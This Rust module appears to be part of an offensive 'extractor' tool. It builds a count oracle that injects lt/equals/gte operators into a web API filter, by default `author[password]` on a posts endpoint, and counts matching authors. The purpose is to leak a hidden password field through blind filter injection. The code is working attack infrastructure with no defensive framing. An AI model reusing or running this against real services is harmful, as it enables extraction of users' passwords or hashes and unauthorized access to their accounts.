//! Count oracle abstraction
//!
//! An oracle answers one comparison at a time against the hidden field and
//! reports how many distinct owners matched. It is the only I/O the
//! extractor performs.

pub mod posts;

#[cfg(test)]
pub mod memory;

use url::Url;

/// Comparison operator injected into the filter.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Operator {
    LessThan,
    Equals,
    /// Only used with the empty probe, to count every owner.
    GreaterOrEqual,
}

impl Operator {
    /// Name of the operator in the filter syntax.
    pub fn wire_name(&self) -> &'static str {
        match self {
            Operator::LessThan => "lt",
            Operator::Equals => "equals",
            Operator::GreaterOrEqual => "gte",
        }
    }
}

impl std::fmt::Display for Operator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", self.wire_name())
    }
}

/// Source of owner counts.
///
/// Implementations never fail: an unusable answer is reported as `0` after
/// logging, so a single bad query does not end the run.
#[allow(async_fn_in_trait)]
pub trait Oracle {
    async fn count(&self, op: Operator, probe: &str) -> usize;
}

/// Where and how to inject, and how to read the answer.
#[derive(Debug, Clone)]
pub struct OracleTarget {
    pub url: Url,
    /// Filter path the operator is appended to, e.g. `author[password]`.
    pub param: String,
    /// Key of the JSON array holding matched records.
    pub records_key: String,
    /// Key identifying the owner inside each record.
    pub owner_key: String,
}

impl OracleTarget {
    pub fn new(url: Url) -> Self {
        Self {
            url,
            param: "author[password]".to_string(),
            records_key: "posts".to_string(),
            owner_key: "authorId".to_string(),
        }
    }

    /// Build the probe URL: `<url>?<param>[<op>]=<probe>`.
    pub fn probe_url(&self, op: Operator, probe: &str) -> Url {
        let mut url = self.url.clone();
        url.query_pairs_mut()
            .append_pair(&format!("{}[{}]", self.param, op.wire_name()), probe);
        url
    }
}
